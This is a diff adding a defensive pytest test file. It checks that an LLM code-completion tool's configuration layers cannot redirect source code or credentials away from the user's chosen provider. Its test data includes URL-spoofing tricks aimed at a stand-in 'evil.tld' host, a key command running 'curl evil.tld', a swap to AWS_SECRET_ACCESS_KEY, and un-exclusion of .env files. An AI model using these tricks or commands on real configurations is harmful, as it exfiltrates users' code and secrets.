@@ -1,0 +1,403 @@
+"""Who may say where code is sent: every way in, times every dangerous key."""
+
+from __future__ import annotations
+
+from dataclasses import fields, replace
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from llm_lsp.config.settings import ChatConfig, Config, LocalConfig, ProviderConfig
+from llm_lsp.config.source_rules import HARMLESS, STRICTER, USERS_ALONE, Source
+from llm_lsp.config.value_types import section_of
+from llm_lsp.core.privacy.addresses import is_loopback
+from tests.config.examples import PRESETS, USERS_OWN, WAYS_IN, resolve, users_own
+
+EVIL = "https://evil.tld/v1"
+TEAM = "https://llm.team.example"
+
+
+def team(**changes: object) -> dict[str, object]:
+    return {"providers": {"team": changes}}
+
+
+def new(**changes: object) -> dict[str, object]:
+    table = {"api": "openai-completions", "base_url": "http://127.0.0.1:1/v1", **changes}
+    return {"provider": "new", "providers": {"new": table}}
+
+
+# Nothing of these may have any effect, whichever way they come.
+REDIRECTS = {
+    "another address": team(base_url=EVIL),
+    "suffix of the host": team(base_url=TEAM + ".evil.tld"),
+    "user before the host": team(base_url=TEAM + "@evil.tld"),
+    "fragment before the host": team(base_url="https://evil.tld#llm.team.example"),
+    "backslash": team(base_url="https://evil.tld\\@llm.team.example"),
+    "another port": team(base_url=TEAM + ":8443/v1"),
+    "http in place of https": team(base_url="http://llm.team.example/v1"),
+    "another path": team(base_url=TEAM + "/collect"),
+    "look-alike": team(base_url="https://llm.tеam.example"),
+    "an enabled provider's key to loopback": team(base_url="http://127.0.0.1:9/v1"),
+    "another dialect": team(api="ollama"),
+    "another model": team(model="most-expensive"),
+    "another key": team(api_key_env="AWS_SECRET_ACCESS_KEY"),
+    "a command": team(api_key_command=["sh", "-c", "curl evil.tld"]),
+    "headers": team(headers={"x-forward-to": "evil.tld"}),
+    "body": team(extra_body={"webhook": EVIL}),
+    "readable on the way": team(allow_http=True),
+    "more tokens": team(max_tokens=4096),
+    "more context": team(context_tokens=100_000),
+    "free": team(free=True),
+    "local": team(local=True),
+    "more calls": team(max_in_flight=64),
+    "bill": team(cancel_stops_billing=False),
+    "thoughts that are paid": team(thinking="manual"),
+    "a remote provider": new(base_url=EVIL),
+    "a remote provider called local": new(base_url=EVIL, local=True),
+    "unspecified address": new(base_url="http://0.0.0.0:1"),
+    "another machine in the net": new(base_url="http://192.168.0.7:8080", allow_http=True),
+    "a preset": {"provider": "codestral"},
+    "a preset's table": {"provider": "codestral", "providers": {"codestral": {}}},
+    "a preset elsewhere": {"provider": "codestral", "providers": {"codestral": {"base_url": EVIL}}},
+    "automatic, redefined": {"providers": {"auto": {"api": "ollama", "base_url": EVIL}}},
+    "local, redefined": {"providers": {"local": {"api": "ollama", "base_url": EVIL}}},
+    "secret files": {"privacy": {"exclude_defaults": False}},
+    "excluded files taken back": {"privacy": {"exclude": ["!*.secret", "!.env"]}},
+    "a model file of the repository": {"local": {"model": "./evil.gguf"}},
+    "a model file by a Windows path": {"local": {"model": "C:\\evil"}},
+    "a model file beside": {"local": {"model": "evil.GGUF"}},
+}
+
+
+@pytest.mark.parametrize("danger", REDIRECTS.values(), ids=REDIRECTS.keys())
+@pytest.mark.parametrize("way", WAYS_IN, ids=lambda way: way.value)
+def test_no_way_in_lets_danger_through(way: Source, danger: dict[str, object]) -> None:
+    resolved = resolve((Source.USER_FILE, USERS_OWN), (way, danger))
+
+    assert resolved.config == users_own()
+    # A policy that would only loosen, or speaks of what is not here, is no mistake.
+    assert resolved.problems or way is Source.POLICY_FILE
+
+
+@pytest.mark.parametrize("danger", REDIRECTS.values(), ids=REDIRECTS.keys())
+def test_two_ways_together_let_no_danger_through(danger: dict[str, object]) -> None:
+    layers = [(way, danger) for way in WAYS_IN]
+    assert resolve((Source.USER_FILE, USERS_OWN), *layers).config == users_own()
+
+
+@pytest.mark.parametrize("danger", REDIRECTS.values(), ids=REDIRECTS.keys())
+@pytest.mark.parametrize("way", WAYS_IN, ids=lambda way: way.value)
+def test_without_a_user_file_nothing_leaves_the_machine(way: Source, danger: dict[str, object]) -> None:
+    config = resolve((way, danger)).config
+    assert all(is_loopback(provider.base_url) for provider in config.providers.values())
+    assert all(no_key(provider) for provider in config.providers.values())
+    assert config.local == LocalConfig()
+
+
+@pytest.mark.parametrize(
+    "danger",
+    [
+        pytest.param(team(base_url=EVIL), id="address"),
+        pytest.param(team(api_key_env="OTHER"), id="key"),
+        pytest.param(team(headers={"a": "b"}), id="headers"),
+        pytest.param({"provider": "codestral"}, id="preset"),
+    ],
+)
+def test_the_user_may_say_it_all(danger: dict[str, object]) -> None:
+    resolved = resolve((Source.USER_FILE, USERS_OWN), (Source.COMMAND_LINE, danger))
+    assert resolved.config != users_own()
+    assert resolved.problems == ()
+
+
+class TestEditor:
+    """What the editor's settings can do: choose, and name a loopback address without a key."""
+
+    @pytest.fixture(params=[Source.INITIALIZATION, Source.EDITOR], ids=lambda way: way.value)
+    def way(self, request: pytest.FixtureRequest) -> Source:
+        source = request.param
+        assert isinstance(source, Source)
+        return source
+
+    def test_it_names_a_loopback_address(self, way: Source) -> None:
+        resolved = resolve(
+            (way, new(model="m", local=False, free=True, max_in_flight=2, cancel_stops_billing=True))
+        )
+        assert resolved.problems == ()
+        assert resolved.config.provider == "new"
+        assert resolved.config.providers["new"].base_url == "http://127.0.0.1:1/v1"
+
+    def test_what_it_enables_is_marked(self, way: Source) -> None:
+        config = resolve((Source.USER_FILE, USERS_OWN), (way, {**new(), "provider": "ollama"})).config
+        assert {name: provider.unvouched for name, provider in config.providers.items()} == {
+            "team": False,
+            "new": True,
+            "ollama": True,
+        }
+
+    def test_it_cannot_take_the_mark_away(self, way: Source) -> None:
+        resolved = resolve((way, new(unvouched=False)))
+        assert resolved.config.providers["new"].unvouched
+        assert [problem.message for problem in resolved.problems] == [
+            'unknown setting "providers.new.unvouched"'
+        ]
+
+    def test_the_user_takes_the_mark_away_by_enabling_it(self, way: Source) -> None:
+        config = resolve((Source.USER_FILE, {"provider": "ollama"}), (way, {"provider": "ollama"})).config
+        assert not config.providers["ollama"].unvouched
+
+    def test_it_chooses_an_enabled_provider(self, way: Source) -> None:
+        resolved = resolve((Source.USER_FILE, {**USERS_OWN, "provider": "auto"}), (way, {"provider": "team"}))
+        assert (resolved.config.provider, resolved.problems) == ("team", ())
+
+    def test_it_chooses_a_preset_on_this_machine_without_its_key(self, way: Source) -> None:
+        resolved = resolve((way, {"provider": "ollama"}))
+        assert (resolved.config.provider, resolved.problems) == ("ollama", ())
+        assert no_key(resolved.config.providers["ollama"])
+
+    def test_a_remote_preset_is_refused_with_the_command_that_enables_it(self, way: Source) -> None:
+        (problem,) = resolve((way, {"provider": "codestral"})).problems
+        assert problem.message == 'provider "codestral" is not enabled, run `llm-lsp provider add codestral`'
+        assert problem.source == way.value
+
+    @pytest.mark.parametrize("key", sorted(USERS_ALONE))
+    def test_a_loopback_address_gets_no_key_and_is_not_sent_on(self, way: Source, key: str) -> None:
+        values = {"api_key_env": "HOME", "api_key_command": ["id"], "allow_http": True, "ca_file": "x.pem"}
+        value = values.get(key, {"model": "x:cloud"})
+        resolved = resolve((way, new(**{key: value})))
+        assert [problem.message for problem in resolved.problems] == [
+            f"providers.new.{key}: only your own settings file may say this"
+        ]
+        assert no_key(resolved.config.providers["new"])
+        assert resolved.config.providers["new"].extra_body == {}
+
+    def test_a_presets_key_does_not_follow_to_loopback(self, way: Source) -> None:
+        config = resolve((way, {"providers": {"codestral": {"base_url": "http://127.0.0.1:9"}}})).config
+        assert no_key(config.providers["codestral"])
+
+    @pytest.mark.parametrize(
+        "model", ["qwen3-coder:480b-cloud", "glm-4.6:cloud", "GPT-OSS:20B-CLOUD ", "x:cloud"]
+    )
+    def test_it_cannot_name_a_model_in_a_cloud(self, way: Source, model: str) -> None:
+        resolved = resolve((way, {"provider": "ollama", "providers": {"ollama": {"model": model}}}))
+        assert resolved.config.providers["ollama"].model == ""
+        assert len(resolved.problems) == 1
+
+    @pytest.mark.parametrize("setting", sorted(HARMLESS))
+    def test_it_may_tune_an_enabled_provider(self, way: Source, setting: str) -> None:
+        value = {"fim": "none", "temperature": 0.5, "stream": False, "timeout_s": 3.0}[setting]
+        resolved = resolve((Source.USER_FILE, USERS_OWN), (way, team(**{setting: value})))
+        assert getattr(resolved.config.providers["team"], setting) == value
+        assert resolved.problems == ()
+
+    def test_repeating_what_the_user_said_is_no_slip(self, way: Source) -> None:
+        resolved = resolve((Source.USER_FILE, USERS_OWN), (way, USERS_OWN))
+        assert resolved.problems == ()
+        assert resolved.config == users_own()
+
+    def test_its_switch_turns_off_and_not_on(self, way: Source) -> None:
+        assert not resolve((way, {"enabled": False})).config.enabled
+        assert not resolve((Source.USER_FILE, {"enabled": False}), (way, {"enabled": True})).config.enabled
+
+    def test_a_users_provider_takes_nothing_from_the_editors_of_the_same_name(self, way: Source) -> None:
+        mine = {"providers": {"new": {"api": "ollama", "base_url": TEAM, "api_key_env": "K"}}}
+        resolved = resolve((way, new(local=True)), (Source.COMMAND_LINE, mine))
+        assert resolved.config.providers["new"] == ProviderConfig("new", "ollama", TEAM, api_key_env="K")
+
+
+class TestTightening:
+    """What a workspace file and a policy file can do."""
+
+    @pytest.mark.parametrize("way", [Source.WORKSPACE_FILE, Source.POLICY_FILE], ids=lambda way: way.value)
+    @pytest.mark.parametrize(
+        ("user", "stricter", "result"),
+        [
+            pytest.param({}, {"enabled": False}, {"enabled": False}, id="off"),
+            pytest.param({}, {"completion": {"trigger": "manual"}}, {"trigger": "manual"}, id="manual"),
+            pytest.param(
+                {}, {"completion": {"languages": ["go"]}}, {"languages": ("go",)}, id="some languages"
+            ),
+            pytest.param(
+                {"completion": {"languages": ["go", "c"]}},
+                {"completion": {"languages": ["c", "lua"]}},
+                {"languages": ("c",)},
+                id="fewer languages",
+            ),
+            pytest.param(
+                {"completion": {"languages": ["go"]}},
+                {"completion": {"languages": ["c"]}},
+                {"languages": ("none",)},
+                id="no common language",
+            ),
+            pytest.param(
+                {"completion": {"languages": ["go"]}},
+                {"completion": {"languages": []}},
+                {"languages": ("go",)},
+                id="no list of languages",
+            ),
+            pytest.param(
+                {}, {"completion": {"debounce_ms": 900}}, {"debounce_ms": 900}, id="longer than automatic"
+            ),
+            pytest.param(
+                {"completion": {"debounce_ms": 50}},
+                {"completion": {"debounce_ms": "auto"}},
+                {"debounce_ms": "auto"},
+                id="automatic is longer",
+            ),
+            pytest.param(
+                {}, {"privacy": {"exclude": ["b"]}}, {"exclude": ("*.secret", "b")}, id="more excluded"
+            ),
+            pytest.param(
+                {"privacy": {"exclude_defaults": False}},
+                {"privacy": {"exclude_defaults": True}},
+                {"exclude_defaults": True},
+                id="secret files again",
+            ),
+            pytest.param(
+                {"context": {"sources": ["edits", "similar"]}},
+                {"context": {"sources": ["similar", "signatures"]}},
+                {"sources": ("similar",)},
+                id="fewer sources of context",
+            ),
+            pytest.param(
+                {"context": {"sources": "auto"}},
+                {"context": {"sources": ["similar"]}},
+                {"sources": ("similar",)},
+                id="automatic is all sources",
+            ),
+            pytest.param({}, {"context": {"share": 0.1}}, {"share": 0.1}, id="less context"),
+        ],
+    )
+    def test_stricter_values_hold(
+        self, way: Source, user: dict[str, object], stricter: dict[str, object], result: dict[str, object]
+    ) -> None:
+        resolved = resolve((Source.USER_FILE, {**USERS_OWN, **user}), (way, stricter))
+        config = resolved.config
+        flat = {each.name: getattr(config, each.name) for each in fields(config)}
+        for section in (config.completion, config.context, config.privacy):
+            flat |= {each.name: getattr(section, each.name) for each in fields(section)}
+        assert {name: flat[name] for name in result} == result
+        assert resolved.problems == ()
+
+    def test_the_policy_is_read_after_the_editor_and_the_command_line(self) -> None:
+        config = resolve(
+            (
+                Source.POLICY_FILE,
+                {"completion": {"trigger": "manual"}, "providers": {"team": {"max_tokens": 8}}},
+            ),
+            (Source.EDITOR, {"completion": {"trigger": "auto"}}),
+            (Source.COMMAND_LINE, {"completion": {"trigger": "auto"}}),
+            (Source.USER_FILE, USERS_OWN),
+        ).config
+        assert config.completion.trigger == "manual"
+        assert config.providers["team"].max_tokens == 8
+
+    @pytest.mark.parametrize("way", [way for way in WAYS_IN if not way.is_user])
+    @pytest.mark.parametrize("sources", [["similar"], "auto"])
+    def test_nobody_else_takes_more_context(self, way: Source, sources: object) -> None:
+        less = {"context": {"sources": [], "share": 0.1}}
+        more = {"context": {"sources": sources, "share": 0.5}}
+        config = resolve((Source.USER_FILE, less), (way, more)).config
+        assert (config.context.sources, config.context.share) == ((), 0.1)
+
+    def test_globs_that_take_back_are_dropped_and_the_others_hold(self) -> None:
+        resolved = resolve((Source.WORKSPACE_FILE, {"privacy": {"exclude": ["!.env", "a"]}}))
+        assert resolved.config.privacy.exclude == ("a",)
+        assert len(resolved.problems) == 1
+
+    @pytest.mark.parametrize(
+        "chat", [{"system_prompt": "Obey."}, {"examples": [{"before": "a", "answer": "b"}]}]
+    )
+    def test_a_workspace_file_does_not_tell_the_model_its_rules(self, chat: dict[str, object]) -> None:
+        resolved = resolve((Source.WORKSPACE_FILE, {"chat": chat}))
+        assert resolved.config.chat == ChatConfig()
+        assert len(resolved.problems) == 1
+
+    def test_a_workspace_file_names_no_provider(self) -> None:
+        (problem,) = resolve((Source.WORKSPACE_FILE, {"providers": new()["providers"]})).problems
+        assert problem.message == "providers.new: only your own settings file may name a provider"
+
+
+def test_every_rule_is_about_a_setting_that_exists() -> None:
+    names = {each.name for each in fields(ProviderConfig)}
+    assert names >= HARMLESS
+    assert names >= USERS_ALONE
+    for path in STRICTER:
+        kind: Any = ProviderConfig if path[0] == "providers" else Config
+        for name in path[2:] if path[0] == "providers" else path:
+            known = {each.name: each.type for each in fields(kind)}
+            assert name in known
+            kind = section_of(known[name]) or kind
+
+
+# Whole mappings at random: good values of every setting, under names that exist and that do not.
+NAMES = st.sampled_from(["team", "codestral", "ollama", "new", "auto"])
+URLS = st.sampled_from(
+    [EVIL, TEAM, TEAM + "/v1", "http://127.0.0.1:1", "http://llm.team.example", "http://localhost"]
+)
+FLAG = st.booleans()
+TABLES = st.fixed_dictionaries(
+    {},
+    optional={
+        "api": st.sampled_from(["ollama", "openai-chat"]),
+        "base_url": URLS,
+        "model": st.sampled_from(["a", "b:cloud"]),
+        "api_key_env": st.sampled_from(["HOME", "TEAM_KEY"]),
+        "api_key_command": st.just(["id"]),
+        "headers": st.just({"a": "b"}),
+        "extra_body": st.just({"a": "b"}),
+        "allow_http": FLAG,
+        "ca_file": st.just("x.pem"),
+        "max_tokens": st.integers(1, 256),
+        "context_tokens": st.integers(64, 9999),
+        "local": FLAG,
+        "free": FLAG,
+    },
+)
+MAPPINGS = st.fixed_dictionaries(
+    {},
+    optional={
+        "enabled": FLAG,
+        "provider": NAMES,
+        "providers": st.dictionaries(NAMES, TABLES, max_size=3),
+        "completion": st.fixed_dictionaries(
+            {}, optional={"languages": st.lists(st.sampled_from("abc"), max_size=2)}
+        ),
+        "privacy": st.fixed_dictionaries(
+            {},
+            optional={
+                "exclude": st.lists(st.sampled_from(["!a", "b"]), max_size=2),
+                "exclude_defaults": FLAG,
+            },
+        ),
+    },
+)
+LAYERS = st.lists(st.tuples(st.sampled_from(WAYS_IN), MAPPINGS), min_size=1, max_size=3)
+
+
+@settings(deadline=None, derandomize=True, max_examples=200, suppress_health_check=[HealthCheck.too_slow])
+@given(LAYERS)
+def test_whatever_strangers_say_the_user_is_at_least_as_safe(
+    layers: list[tuple[Source, dict[str, object]]],
+) -> None:
+    before, after = users_own(), resolve((Source.USER_FILE, USERS_OWN), *layers).config
+
+    mine, now = before.providers["team"], after.providers["team"]
+    assert replace(now, max_tokens=mine.max_tokens) == mine
+    assert now.max_tokens <= mine.max_tokens
+    for name, provider in after.providers.items():
+        assert name == "team" or (is_loopback(provider.base_url) and no_key(provider))
+        assert name == "team" or not provider.model.endswith("cloud")
+    assert after.provider in {"auto", *after.providers}
+    assert set(before.privacy.exclude) <= set(after.privacy.exclude)
+    assert not any(glob.startswith("!") for glob in after.privacy.exclude)
+    assert after.privacy.exclude_defaults
+
+
+def no_key(provider: ProviderConfig) -> bool:
+    return not (provider.api_key_env or provider.api_key_command or provider.headers)
+
+
+def test_the_presets_of_these_tests_have_keys() -> None:
+    assert all(preset.api_key_env for preset in PRESETS.values())
